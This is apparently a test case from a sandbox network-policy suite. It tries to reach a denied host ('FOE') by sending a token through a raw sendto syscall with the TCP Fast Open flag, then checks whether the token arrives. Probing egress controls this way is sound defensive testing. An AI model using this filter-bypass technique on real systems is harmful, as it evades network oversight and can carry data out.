"""TCP Fast Open: sendto
Connects and sends in one sendto with MSG_FASTOPEN.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    stream = at.tcp()
    stream.settimeout(None)
    at.syscall(44, stream.fileno(), at.token, len(at.token), 0x20000000, at.address4(at.FOE, at.PORT), 16)
    return at.token in stream.recv(100)
